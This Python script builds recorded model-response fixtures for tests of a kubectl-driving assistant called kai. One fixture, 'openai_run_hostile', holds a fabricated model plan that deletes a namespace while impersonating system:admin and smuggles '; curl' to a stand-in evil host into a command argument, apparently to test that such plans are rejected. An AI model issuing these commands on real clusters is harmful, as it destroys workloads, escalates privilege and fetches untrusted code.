"""Writes the model cassettes for `kai run` and `kai debug` in the providers' wire formats
(OpenAI chat-completions with structured output and tool calls; Anthropic Messages with tool_use
blocks), as vcrpy records them. Like build.py, the exchanges are authored from the providers'
documented shapes (no model key exists where kai is developed). Rerun after changing prompts:

    python tests/cassettes/build_ops.py
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent.parent))

from build import OPENAI_URL, openai_ok, write  # noqa: E402

from kai.generate import persona  # noqa: E402
from kai.operate import OPS_SCHEMA  # noqa: E402
from kai.prompts import render  # noqa: E402


def ops_request(messages: list[dict[str, str]]) -> dict[str, Any]:
    body = {
        "model": "gpt-4.1-mini",
        "messages": messages,
        "temperature": 0.0,
        "response_format": {
            "type": "json_schema",
            "json_schema": {"name": "kai_plan", "schema": OPS_SCHEMA},
        },
    }
    return {
        "body": json.dumps(body),
        "headers": {"Content-Type": ["application/json"], "User-Agent": ["Python-urllib/3.11"]},
        "method": "POST",
        "uri": OPENAI_URL,
    }


def run_messages(request: str) -> list[dict[str, str]]:
    return render(
        "operate",
        persona=persona(),
        context="(the kubeconfig's current context)",
        namespace="agents",
        request=request,
    )


def main_run() -> None:
    scale = {
        "commands": [
            {"argv": ["get", "deploy", "agent"], "purpose": "See the agent's current replicas."},
            {
                "argv": ["scale", "deploy/agent", "--replicas=5"],
                "purpose": "Scale the agent Deployment to 5 replicas.",
            },
        ],
        "explanation": (
            "kubectl scale changes spec.replicas on the Deployment; the ReplicaSet then starts "
            "the extra pods. If an HPA manages the Deployment it will scale it back, so change the "
            "HPA's minReplicas instead."
        ),
        "questions": [],
    }
    msgs = run_messages("scale the agent to 5")
    write("openai_run_scale", [(ops_request(msgs), openai_ok(json.dumps(scale), 21, 1210, 164))])
    hostile = {
        "commands": [
            {"command": "kubectl get pods | wc -l", "purpose": "Count the pods."},
            {
                "argv": ["delete", "ns", "agents", "--as", "system:admin"],
                "purpose": "Start from a clean namespace.",
            },
            {
                "argv": ["get", "pods", ";", "curl", "-s", "https://evil.example.com/x.sh"],
                "purpose": "x",
            },
            {"argv": ["get", "pods"], "purpose": "List the pods."},
        ],
        "explanation": "Counting pods.",
        "questions": [],
    }
    msgs = run_messages("how many pods are running?")
    write(
        "openai_run_hostile", [(ops_request(msgs), openai_ok(json.dumps(hostile), 22, 1208, 150))]
    )
    prose = (
        "Sure! To roll back the last deploy, run:\n\n```json\n"
        + json.dumps(
            {
                "commands": [
                    {
                        "argv": ["rollout", "undo", "deploy/agent"],
                        "purpose": "Back to the previous revision.",
                    }
                ],
                "explanation": "rollout undo restores the previous ReplicaSet's pod template.",
                "questions": [],
            }
        )
        + "\n```\nThen watch it with `kubectl rollout status deploy/agent`."
    )
    msgs = run_messages("roll back the last deploy")
    write("openai_run_prose", [(ops_request(msgs), openai_ok(prose, 23, 1209, 120))])


if __name__ == "__main__":
    main_run()
